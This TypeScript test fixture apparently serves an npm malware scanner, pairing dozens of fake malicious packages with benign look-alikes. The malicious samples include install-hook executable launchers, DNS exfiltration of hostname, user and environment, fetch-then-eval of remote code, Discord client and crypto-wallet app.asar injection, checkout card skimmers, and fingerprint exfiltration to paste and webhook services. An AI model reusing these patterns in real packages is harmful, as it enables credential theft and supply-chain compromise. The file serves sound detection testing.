/**
 * npm malware families of the pkg-analysis-2026.12.6 round (docs/package-analysis.md "Branch pkg23npm"), written here
 * (not taken from any blind set): install hooks written `node .` / `node ./` that start a bundled executable detached,
 * DNS recon (`dns.lookup` / `resolve*` / `Resolver` / `nslookup` of a name built from the host name, user name or
 * environment, in other syntax: nested destructuring, a helper function, ESM, hex chunks, a hook's own shell line),
 * fetched data deserialised or evaluated (`node-serialize`, `.then(eval)`, `Function`, `vm`), another desktop
 * application's code written (the Discord client with its folder names spelt in pieces, an Electron app's
 * `resources/app.asar` under the user's application folders), fingerprints sent to issue trackers, paste and webhook
 * services. Each is inert text packed in memory; hosts are invented (`.example`) or the services' public names.
 *
 * HONEST_23 are the look-alikes that must stay below CAUTION: a CLI printing the host name, a DNS library's tests, an
 * Electron app writing its own files, a build writing its output's app.asar, a hot updater writing its own
 * resources, a hook that echoes the host name, a telemetry opt-in to the package's documented host.
 */
const pj = (extra: Record<string, unknown> = {}) =>
  JSON.stringify({ name: 'pkgx', version: '1.0.0', main: 'index.js', ...extra });
const hook = (code: string, h = 'node index.js') => ({
  'package.json': pj({ scripts: { postinstall: h } }),
  'index.js': code,
});
/** A minimal PE header (MZ, e_lfanew → "PE\0\0"): enough for the magic-byte check, inert. */
const PE = Buffer.concat([
  Buffer.from('MZ'),
  Buffer.alloc(0x3a),
  Buffer.from([0x80, 0, 0, 0]),
  Buffer.alloc(0x40),
  Buffer.from('PE\0\0'),
  Buffer.alloc(100),
]);

/** Malicious variants by id: their files. */
export const MALICIOUS_23: Record<string, Record<string, string | Buffer>> = {
  hookDotDetached: {
    'package.json': pj({ scripts: { postinstall: 'node .' } }),
    'index.js': `const { spawn } = require('child_process');\nconst path = require('path');\nif (process.platform === 'win32') { const p = spawn(path.join(__dirname, 'bin', 'helper.exe'), [], { detached: true, stdio: 'ignore' }); p.unref(); }\nmodule.exports = () => 1;\n`,
    'bin/helper.exe': PE,
  },
  hookDotSlashMainLib: {
    'package.json': pj({ main: 'lib/main.js', scripts: { install: 'node ./' } }),
    'lib/main.js': `const cp = require('node:child_process');\nconst { join } = require('node:path');\ncp.execFile(join(__dirname, '..', 'vendor', 'svc.exe'), { windowsHide: true });\n`,
    'vendor/svc.exe': PE,
  },
  hookDotExportsField: {
    'package.json': JSON.stringify({
      name: 'pkgx',
      version: '1.0.0',
      exports: { '.': { require: './dist/cjs.js', import: './dist/esm.mjs' } },
      scripts: { postinstall: 'node .' },
    }),
    'dist/cjs.js': `const c = require('child_process');\nconst s = c['sp' + 'awn'](__dirname + '/../assets/update.exe', { detached: true, stdio: 'ignore' });\ns.unref();\n`,
    'dist/esm.mjs': 'export default 1;\n',
    'assets/update.exe': PE,
  },
  hookNodeIndexNoMain: {
    'package.json': JSON.stringify({ name: 'pkgx', version: '1.0.0', scripts: { preinstall: 'node .' } }),
    'index.js': `import('child_process').then(({ spawn }) => { spawn(require('path').resolve(__dirname, 'tools/agent.exe'), { detached: true, stdio: 'ignore' }).unref(); });\n`,
    'tools/agent.exe': PE,
  },
  dnsLookupHost: {
    'package.json': pj({ scripts: { postinstall: 'node index.js' } }),
    'index.js': `const dns = require('dns');\nconst os = require('os');\nconst id = Buffer.from(os.hostname() + ':' + os.userInfo().username).toString('hex');\ndns.lookup(id + '.t.oob-collect.example', () => {});\n`,
  },
  dnsResolveEnvPromises: {
    'package.json': pj({ scripts: { postinstall: 'node index.js' } }),
    'index.js': `const { promises: { resolve4 } } = require('node:dns');\nconst label = (process.env.USER || process.env.USERNAME || 'x').slice(0, 30);\nresolve4(\`\${label}.\${process.cwd().length}.r.dnslog.example\`).catch(() => {});\n`,
  },
  dnsResolverTxt: {
    'package.json': pj({ scripts: { postinstall: 'node index.js' } }),
    'index.js': `const { Resolver } = require('dns');\nconst r = new Resolver();\nr.setServers(['203.0.113.7']);\nconst os = require('os');\nconst parts = [os.hostname(), os.homedir(), os.platform()].map(encodeURIComponent).join('-');\nr.resolveTxt(parts.substring(0, 60) + '.q.exfil-zone.example', (e, rec) => {});\n`,
  },
  dnsNslookupExec: {
    'package.json': pj({ scripts: { preinstall: 'node index.js' } }),
    'index.js': `const { exec } = require('child_process');\nconst h = require('os').hostname();\nexec('nslookup ' + h + '.' + require('os').userInfo().username + '.ping.collab.example');\n`,
  },
  dnsNslookupHookOnly: {
    'package.json': pj({ scripts: { postinstall: 'nslookup $(hostname).$(whoami).hook.oob.example || true' } }),
    'index.js': 'module.exports = 1;\n',
  },
  dnsEsm: {
    'package.json': JSON.stringify({
      name: 'pkgx',
      version: '1.0.0',
      type: 'module',
      main: 'index.js',
      scripts: { postinstall: 'node index.js' },
    }),
    'index.js': `import * as d from 'node:dns/promises';\nimport { hostname, userInfo } from 'node:os';\nconst n = [hostname(), userInfo().username].join('.');\nawait d.resolve(n + '.esm.oob.example', 'A').catch(() => null);\n`,
  },
  dnsHexChunks: {
    'package.json': pj({ scripts: { postinstall: 'node index.js' } }),
    'index.js': `const dns = require('dns');\nconst data = JSON.stringify({ h: require('os').hostname(), e: process.env });\nconst hex = Buffer.from(data).toString('hex');\nfor (let i = 0; i < hex.length; i += 60) dns.resolve(hex.slice(i, i + 60) + '.' + i + '.c.dns-sink.example', () => {});\n`,
  },
  unserializeFetched: {
    'package.json': pj({ dependencies: { 'node-serialize': '0.0.4' } }),
    'index.js': `const serialize = require('node-serialize');\nconst https = require('https');\nhttps.get('https://cfg.settings-cdn.example/profile', (res) => { let b = ''; res.on('data', (c) => (b += c)); res.on('end', () => serialize.unserialize(b)); });\n`,
  },
  unserializeAxios: {
    'package.json': pj({ dependencies: { 'node-serialize': '0.0.4', axios: '1' } }),
    'index.js': `const { unserialize: load } = require('node-serialize');\nconst axios = require('axios');\nmodule.exports = async () => { const { data } = await axios.get('https://state.sync-api.example/v2/state'); return load(data.payload); };\n`,
  },
  evalFetchThen: {
    'package.json': pj({ scripts: { postinstall: 'node index.js' } }),
    'index.js': `fetch('https://cdn.metrics-lib.example/loader.js').then((r) => r.text()).then(eval);\n`,
  },
  fnFetched: {
    'package.json': pj(),
    'index.js': `const get = require('https').get;\nget('https://update.tiny-utils.example/patch', (r) => { const chunks = []; r.on('data', (c) => chunks.push(c)); r.on('end', () => { new Function('require', Buffer.concat(chunks).toString())(require); }); });\n`,
  },
  vmFetched: {
    'package.json': pj(),
    'index.js': `const vm = require('vm');\nconst axios = require('axios');\n(async () => { const res = await axios({ url: 'https://plugins.tiny-utils.example/p.js', responseType: 'text' }); vm.runInThisContext(res.data); })();\n`,
  },
  vmScriptFetched: {
    'package.json': pj(),
    'index.js': `const { Script } = require('node:vm');\nasync function boot(u) { const r = await fetch(u); const src = await r.text(); new Script(src).runInNewContext({ require, process }); }\nboot('https://edge.tiny-utils.example/b.js');\n`,
  },
  discordInject: {
    'package.json': pj({ scripts: { postinstall: 'node index.js' } }),
    'index.js': `const fs = require('fs'); const path = require('path');\nconst base = path.join(process.env.LOCALAPPDATA, 'Discord');\nfor (const d of fs.readdirSync(base).filter((x) => x.startsWith('app-'))) {\n  const mod = path.join(base, d, 'modules');\n  for (const m of fs.readdirSync(mod)) if (m.startsWith('discord_desktop_core')) fs.writeFileSync(path.join(mod, m, 'discord_desktop_core', 'index.js'), "require('https').get('https://x.grab.example/'+process.env.TOKEN);module.exports = require('./core.asar');");\n}\n`,
  },
  discordInjectSplit: {
    'package.json': pj({ scripts: { postinstall: 'node index.js' } }),
    'index.js': `const fs = require('fs'); const p = require('path');\nconst names = ['discord', 'discordcanary', 'discordptb'];\nconst payload = fs.readFileSync(p.join(__dirname, 'inj.txt'), 'utf8');\nfor (const n of names) {\n  const root = p.join(process.env.APPDATA, '..', 'Local', n);\n  if (!fs.existsSync(root)) continue;\n  const app = fs.readdirSync(root).find((x) => /^app-/.test(x));\n  const core = p.join(root, app, 'modules', 'discord_desktop_' + 'core-1', 'discord_desktop_' + 'core');\n  fs.writeFileSync(p.join(core, 'index.js'), payload);\n}\n`,
    'inj.txt': 'module.exports = 1;',
  },
  exodusAsar: {
    'package.json': pj({ scripts: { postinstall: 'node index.js' } }),
    'index.js': `const fs = require('fs'); const path = require('path'); const os = require('os');\nconst target = path.join(os.homedir(), 'AppData', 'Local', 'exodus');\nconst app = fs.readdirSync(target).find((d) => d.startsWith('app-'));\nfs.copyFileSync(path.join(__dirname, 'app.asar'), path.join(target, app, 'resources', 'app.asar'));\n`,
    'app.asar': 'x',
  },
  trackerIssue: {
    'package.json': pj({ scripts: { postinstall: 'node index.js' } }),
    'index.js': `const os = require('os');\nconst body = JSON.stringify({ title: os.hostname(), body: JSON.stringify({ user: os.userInfo().username, cwd: process.cwd(), ifs: os.networkInterfaces() }) });\nfetch('https://api.github.com/repos/someone/inbox/issues', { method: 'POST', headers: { authorization: 'token ghp_x' }, body });\n`,
  },
  pastebin: {
    'package.json': pj({ scripts: { postinstall: 'node index.js' } }),
    'index.js': `const os = require('os'); const qs = require('querystring');\nconst https = require('https');\nconst data = qs.stringify({ api_dev_key: 'k', api_option: 'paste', api_paste_code: JSON.stringify({ h: os.hostname(), u: os.userInfo(), env: process.env }) });\nconst req = https.request({ hostname: 'pastebin.com', path: '/api/api_post.php', method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' } });\nreq.end(data);\n`,
  },
  webhookSite: {
    'package.json': pj({ scripts: { postinstall: 'node index.js' } }),
    'index.js': `const os = require('os');\nrequire('axios').post('https://webhook.site/0b7c1e44-aaaa-bbbb-cccc-1234567890ab', { host: os.hostname(), user: os.userInfo().username, dir: __dirname });\n`,
  },
  pipedream: {
    'package.json': pj({ scripts: { postinstall: 'node index.js' } }),
    'index.js': `const os = require('os');\nconst u = new URL('https://eo2x8abc1234.m.pipedream.net');\nu.searchParams.set('h', os.hostname());\nu.searchParams.set('p', process.cwd());\nrequire('https').get(u);\n`,
  },
  discordWebhookFp: {
    'package.json': pj({ scripts: { postinstall: 'node index.js' } }),
    'index.js': `const os = require('os');\nfetch('https://discord.com/api/webhooks/123/abc', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ content: '\`' + os.hostname() + ' ' + os.userInfo().username + '\`' }) });\n`,
  },
  b1: hook(
    `const { promises: { resolve4 } } = require('node:dns');\nresolve4(require('os').hostname() + '.r.dnslog.example');\n`,
  ),
  b2: hook(
    `const { resolve4 } = require('node:dns').promises;\nresolve4(require('os').hostname() + '.r.dnslog.example');\n`,
  ),
  b3: hook(
    `const dns = require('node:dns');\nconst label = (process.env.USER || process.env.USERNAME || 'x').slice(0, 30);\ndns.resolve4(label + '.r.dnslog.example', () => {});\n`,
  ),
  b4: hook(
    `const dns = require('node:dns');\nconst label = process.env.USER;\ndns.resolve4(\`\${label}.\${process.cwd().length}.r.dnslog.example\`, () => {});\n`,
  ),
  b5: hook(`const dns = require('node:dns');\ndns.resolve4(\`\${process.env.USER}.r.dnslog.example\`, () => {});\n`),
  b6: hook(
    `const r = require; const d = r('dns');\nd['look' + 'up'](require('os').hostname() + '.r.dnslog.example', () => {});\n`,
  ),
  b7: hook(
    `const dns = require('dns');\nconst os = require('os');\nconst send = (n) => new Promise((ok) => dns.lookup(n + '.r.dnslog.example', ok));\nsend(os.hostname());\n`,
  ),
  b8: hook(
    `const dns = require('dns').promises;\nconst { hostname, userInfo } = require('os');\nconst domain = 'r.dnslog.example';\nasync function go() { const who = userInfo().username; await dns.lookup([who, hostname(), domain].join('.')); }\ngo();\n`,
  ),
  d1: hook(
    `const fs = require('fs'); const p = require('path');\nconst core = p.join(process.env.LOCALAPPDATA, 'discord', 'app-1.0.9', 'modules', 'discord_desktop_' + 'core-1', 'discord_desktop_' + 'core');\nfs.writeFileSync(p.join(core, 'index.js'), 'x');\n`,
  ),
  d2: hook(
    `const fs = require('fs'); const p = require('path');\nconst payload = fs.readFileSync(p.join(__dirname, 'inj.txt'), 'utf8');\nconst core = p.join(process.env.LOCALAPPDATA, 'discord', 'app-1.0.9', 'modules', 'discord_desktop_core-1', 'discord_desktop_core');\nfs.writeFileSync(p.join(core, 'index.js'), payload);\n`,
  ),
  d3: hook(
    `const fs = require('fs'); const p = require('path');\nfor (const n of ['discord','discordptb']) { const root = p.join(process.env.LOCALAPPDATA, n); const app = fs.readdirSync(root).find((x) => /^app-/.test(x));\nconst core = p.join(root, app, 'modules', 'discord_desktop_core-1', 'discord_desktop_core');\nfs.writeFileSync(p.join(core, 'index.js'), 'x'); }\n`,
  ),
  e1: hook(`fetch('https://cdn.metrics-lib.example/loader.js').then((r) => r.text()).then(eval);\n`),
  e2: hook(`fetch('https://cdn.metrics-lib.example/loader.js').then((r) => r.text()).then((s) => eval(s));\n`),
  skimmerImage: {
    'package.json': pj(),
    'index.js': `window.addEventListener('load', () => {\n  const btn = document.querySelector('#checkout'); if (!btn) return;\n  btn.addEventListener('click', () => {\n    const cc = document.getElementById('cc-number').value, exp = document.getElementById('cc-exp').value, cvv = document.getElementById('cc-cvv').value;\n    new Image().src = 'https://img.analytics-px.example/p.gif?d=' + btoa([cc, exp, cvv].join('|'));\n  });\n});\n`,
  },
  skimmerBeaconSelectors: {
    'package.json': pj(),
    'index.js': `document.addEventListener('submit', () => {\n  const num = document.querySelector('input[name="cardnumber"]').value;\n  const code = document.querySelector('input[name="cvc"]').value;\n  const payload = JSON.stringify({ n: num, c: code, at: Date.now() });\n  navigator.sendBeacon('https://collect.pixel-cdn.example/b', payload);\n});\n`,
  },
  dnsAlias1: hook(
    `const R = require('dns').promises.Resolver;\nconst r = new R();\nr.resolve4(require('os').hostname() + '.a.oob.example');\n`,
  ),
  dnsAlias2: hook(`require('dns/promises').lookup(require('os').userInfo().username + '.a.oob.example');\n`),
  dnsAlias3: hook(
    `const { promisify } = require('util');\nconst dns = require('dns');\nconst look = promisify(dns.lookup);\nlook(require('os').hostname() + '.a.oob.example');\n`,
  ),
  dnsAlias4: hook(
    `const dns = require('dns');\nconst q = dns.lookup.bind(dns);\nq(require('os').hostname() + '.a.oob.example', () => {});\n`,
  ),
  dnsAlias5: hook(
    `const { spawn } = require('child_process');\nconst os = require('os');\nspawn('nslookup', [\`\${os.hostname()}.a.oob.example\`]);\n`,
  ),
  dnsAlias6: hook(
    `const os = require('os');\nconst { username } = os.userInfo();\nrequire('child_process').execSync(\`dig +short \${username}.\${os.hostname()}.a.oob.example\`);\n`,
  ),
  dnsAlias7: hook(
    `const dns = require('dns');\nconst D = '.a.oob.example';\nconst info = Buffer.from(JSON.stringify([require('os').hostname(), process.cwd()])).toString('base64url');\ninfo.match(/.{1,50}/g).forEach((c, i) => dns.resolve(i + '-' + c + D, () => {}));\n`,
  ),
  dnsAlias8: hook(
    `import('node:dns').then(({ default: dns }) => dns.lookup(require('os').hostname() + '.a.oob.example', () => {}));\n`,
  ),
  dnsAlias9: hook(
    `const dns = require('dns');\nconst os = require('os');\nconst tag = [os.hostname(), os.userInfo().username].map((s) => s.replace(/[^a-z0-9]/gi, '')).join('-');\nsetTimeout(() => dns.lookup(\`\${tag}.a.oob.example\`, () => {}), 1000);\n`,
  ),
  evalVia1: hook(
    `const https = require('https');\nhttps.get('https://c.cdn-cfg.example/x', (res) => { let body = ''; res.setEncoding('utf8'); res.on('data', (d) => { body += d; }); res.on('end', () => { const run = eval; run(body); }); });\n`,
  ),
  evalVia2: hook(
    `const https = require('https');\nhttps.get('https://c.cdn-cfg.example/x', (res) => { let body = ''; res.on('data', (d) => (body += d)); res.on('end', () => (0, eval)(body)); });\n`,
  ),
  evalVia3: hook(
    `(async () => { const r = await fetch('https://c.cdn-cfg.example/x'); const code = await r.text(); globalThis['ev' + 'al'](code); })();\n`,
  ),
  evalVia4: hook(
    `const got = require('got');\ngot('https://c.cdn-cfg.example/x').text().then((code) => require('vm').runInNewContext(code, { require }));\n`,
  ),
  evalVia5: hook(
    `const axios = require('axios');\naxios.get('https://c.cdn-cfg.example/x').then(({ data }) => { const f = new Function('require', data); f(require); });\n`,
  ),
  evalVia6: hook(
    `const s = require('node-serialize');\nrequire('axios').get('https://c.cdn-cfg.example/state').then((r) => s.unserialize(r.data));\n`,
  ),
  evalVia7: hook(
    `const https = require('https');\nfunction get(u) { return new Promise((ok) => https.get(u, (r) => { let b = ''; r.on('data', (c) => (b += c)); r.on('end', () => ok(b)); })); }\nget('https://c.cdn-cfg.example/x').then((src) => eval(src));\n`,
  ),
  evalVia8: hook(
    `const { execSync } = require('child_process');\nconst code = execSync('curl -s https://c.cdn-cfg.example/x').toString();\neval(code);\n`,
  ),
  spawnHook1: {
    'package.json': pj({ scripts: { postinstall: 'node ./' } }),
    'index.js': `const cp = require('child_process');\ncp.exec('start "" "' + require('path').join(__dirname, 'bin', 'svc.exe') + '"');\n`,
    'bin/svc.exe': PE,
  },
  spawnHook2: {
    'package.json': pj({ main: 'lib', scripts: { install: 'node .' } }),
    'lib/index.js': `const { spawn } = require('child_process');\nspawn(__dirname + '/../bin/svc.exe', [], { detached: true, stdio: 'ignore' }).unref();\n`,
    'bin/svc.exe': PE,
  },
  spawnHook3: {
    'package.json': pj({ scripts: { postinstall: 'node .' } }),
    'index.js': `const { spawn } = require('child_process');\nconst fs = require('fs'); const os = require('os'); const path = require('path');\nconst dst = path.join(os.tmpdir(), 'svc.exe');\nfs.copyFileSync(path.join(__dirname, 'data.bin'), dst);\nspawn(dst, { detached: true, stdio: 'ignore' }).unref();\n`,
    'data.bin': PE,
  },
  spawnHook4: {
    'package.json': pj({ scripts: { postinstall: 'node .' } }),
    'index.js': `require('./lib/start')();\n`,
    'lib/start.js': `module.exports = () => { const c = require('child_process'); const p = c.spawn(require('path').resolve(__dirname, '../res/a.exe'), { detached: true, windowsHide: true, stdio: 'ignore' }); p.unref(); };\n`,
    'res/a.exe': PE,
  },
  appWrite1: hook(
    `const fs = require('fs'); const path = require('path');\nconst p = path.join(process.env.LOCALAPPDATA, 'Discord');\nconst app = fs.readdirSync(p).filter((d) => d.startsWith('app-')).pop();\nconst target = path.join(p, app, 'modules', 'discord_desktop_core-1', 'discord_desktop_core', 'index.js');\nfs.appendFileSync(target, "\\nrequire('https').get('https://x.grab.example/')");\n`,
  ),
  appWrite2: hook(
    `const fs = require('fs'); const path = require('path'); const os = require('os');\nconst base = path.join(os.homedir(), 'Library', 'Application Support', 'atomic');\nfs.renameSync(path.join(__dirname, 'a.asar'), path.join('/Applications/Atomic Wallet.app/Contents/Resources', 'app.asar'));\n`,
  ),
  trackerSend1: hook(
    `const os = require('os');\nrequire('axios').post('https://paste.ee/api/v1/pastes', { sections: [{ contents: JSON.stringify({ h: os.hostname(), u: os.userInfo().username }) }] });\n`,
  ),
  trackerSend2: hook(
    `const os = require('os');\nfetch('https://gitlab.com/api/v4/projects/12345/issues', { method: 'POST', headers: { 'PRIVATE-TOKEN': 'x' }, body: new URLSearchParams({ title: os.hostname(), description: JSON.stringify(process.env) }) });\n`,
  ),
  trackerSend3: hook(
    `const os = require('os');\nconst https = require('https');\nconst req = https.request('https://hooks.slack.com/services/T0/B0/xyz', { method: 'POST' });\nreq.write(JSON.stringify({ text: os.hostname() + ' ' + os.userInfo().username + ' ' + process.cwd() }));\nreq.end();\n`,
  ),
  trackerSend4: hook(
    `const os = require('os');\nfetch('https://abc123.oast.fun/?h=' + os.hostname() + '&u=' + os.userInfo().username);\n`,
  ),
  trackerSend5: hook(
    `const os = require('os');\nfetch('https://api.telegram.org/bot123:abc/sendMessage?chat_id=1&text=' + encodeURIComponent(os.hostname()));\n`,
  ),
  trackerSend6: {
    'package.json': pj(),
    'index.js': `const os = require('os');\nmodule.exports = function init() { fetch('https://api.github.com/repos/x/y/issues', { method: 'POST', body: JSON.stringify({ title: os.hostname(), body: os.userInfo().username }) }); };\ninit();\n`,
  },
};

/** Honest look-alikes by id: their files. */
export const HONEST_23: Record<string, Record<string, string>> = {
  cliHostname: hook(
    `const os = require('os'); const dns = require('dns');\nconsole.log('installed on ' + os.hostname());\nconst target = process.argv[2] || 'registry.example.org';\ndns.lookup(target, (e, a) => console.log(a));\n`,
  ),
  dnsOwnHost: hook(
    `const { promises: { lookup } } = require('dns');\nconst os = require('os');\nlookup(os.hostname()).then((a) => console.log(a.address));\nlookup(os.hostname() + '.local').catch(() => {});\n`,
  ),
  dnsHelperUserHost: {
    'package.json': pj(),
    'index.js': `const dns = require('dns');\nconst os = require('os');\nfunction probe(name) { return dns.promises.resolve4(name + '.example.com'); }\nmodule.exports = (h) => probe(h);\nconsole.log(os.hostname());\n`,
  },
  dnsLibTests: {
    'package.json': pj({ scripts: { test: 'node test/lookup.js' } }),
    'index.js': 'module.exports = require("dns").lookup;\n',
    'test/lookup.js': `const dns = require('dns'); const os = require('os');\nconst assert = require('assert');\ndns.lookup(os.hostname(), (e, a) => assert.ok(a));\ndns.resolve4(os.hostname() + '.test.example', () => {});\n`,
  },
  electronOwnFiles: {
    'package.json': pj({ main: 'main.js', dependencies: { electron: '30' } }),
    'main.js': `const { app } = require('electron'); const fs = require('fs'); const path = require('path');\napp.whenReady().then(() => { fs.writeFileSync(path.join(app.getPath('userData'), 'settings.json'), '{}'); fs.copyFileSync(path.join(process.resourcesPath, 'app.asar'), path.join(app.getPath('userData'), 'backup.asar')); });\n`,
  },
  asarBuilder: {
    'package.json': pj({ bin: { pack: 'cli.js' } }),
    'index.js': `const fs = require('fs'); const path = require('path');\nmodule.exports = function build(outDir, data) { const dest = path.join(outDir, 'win-unpacked', 'resources', 'app.asar'); fs.mkdirSync(path.dirname(dest), { recursive: true }); fs.writeFileSync(dest, data); };\n`,
    'cli.js': 'require("./index.js")(process.argv[2], Buffer.alloc(0));\n',
  },
  hotUpdater: {
    'package.json': pj(),
    'index.js': `const fs = require('fs'); const path = require('path');\nmodule.exports = async function apply(url) { const r = await fetch(url); fs.writeFileSync(path.join(process.resourcesPath, 'app.asar'), Buffer.from(await r.arrayBuffer())); };\n`,
  },
  thenJsonParse: {
    'package.json': pj(),
    'index.js': `fetch('https://registry.example.org/pkgx').then((r) => r.text()).then(JSON.parse).then((d) => console.log(d['dist-tags']));\nrequire('fs').promises.readFile(__dirname + '/x.js', 'utf8').then(eval);\n`,
  },
  hookEchoHostname: {
    'package.json': pj({
      scripts: {
        postinstall: 'echo installed on $(hostname) && ping -c 1 registry.example.org || nslookup $HOSTNAME || true',
      },
    }),
    'index.js': 'module.exports = 1;\n',
  },
  hookLocalZone: {
    'package.json': pj({ scripts: { postinstall: 'ping -c1 $(hostname).local || true' } }),
    'index.js': 'module.exports = 1;\n',
  },
  discordBot: {
    'package.json': pj({ dependencies: { 'discord.js': '14' } }),
    'index.js': `const { Client } = require('discord.js'); const fs = require('fs');\nconst c = new Client({ intents: [] });\nc.on('ready', () => fs.writeFileSync('discord-bot-app-state.json', JSON.stringify({ modules: [] })));\nc.login(process.env.DISCORD_TOKEN);\n`,
  },
  telemetryOptIn: {
    'package.json': pj({ homepage: 'https://telemetry-tool.example', scripts: { postinstall: 'node index.js' } }),
    'index.js': `const os = require('os');\nif (process.env.PKGX_TELEMETRY === '1') fetch('https://api.telemetry-tool.example/v1/install', { method: 'POST', body: JSON.stringify({ platform: os.platform(), arch: os.arch(), node: process.version }) });\n`,
  },
  checkoutOwnProcessor: {
    'package.json': pj(),
    'index.js': `export async function pay() {\n  const number = document.getElementById('cc-number').value;\n  const cvc = document.getElementById('cc-cvc').value;\n  const r = await fetch('https://api.pay-processor.example/v1/tokens', { method: 'POST', body: JSON.stringify({ number, cvc }) });\n  return (await r.json()).token;\n}\nexport function pageView() { new Image().src = 'https://px.pay-processor.example/pv?p=' + encodeURIComponent(location.pathname); }\n`,
  },
  promisifiedExecBuild: {
    'package.json': pj({ scripts: { postinstall: 'node index.js' } }),
    'index.js': `const { promisify } = require('util');\nconst cp = require('child_process');\nconst os = require('os');\nconst run = promisify(cp.exec);\nconst look = promisify(require('dns').lookup);\n(async () => { console.log('building on', os.hostname()); await run('node-gyp rebuild'); await look('registry.example.org').catch(() => {}); })();\n`,
  },
  localEvaluatorAlias: {
    'package.json': pj(),
    'index.js': `const run = eval;\nconst globalObject = run('this');\nconst F = Function;\nmodule.exports = { globalObject, noop: new F('') };\n`,
  },
  bundledClientAsText: {
    'package.json': pj(),
    'index.js': `// An HTTP client's source carried as text for a sandboxed runtime (the shape of a bundled fetch polyfill).\nmodule.exports = \`"use strict";\nfunction stripCredentials(url) { url.username = ""; url.password = ""; url.hash = ""; return url; }\nfunction check(input, context) { if (typeof input !== "string") throw new TypeError(context.value + " is not a string"); }\nasync function get(input) { const u = stripCredentials(new URL(input, "https://registry.example.org/")); const res = await fetch(u); return res.text(); }\nmodule.exports = { get, check };\n\`;\n`,
  },
};
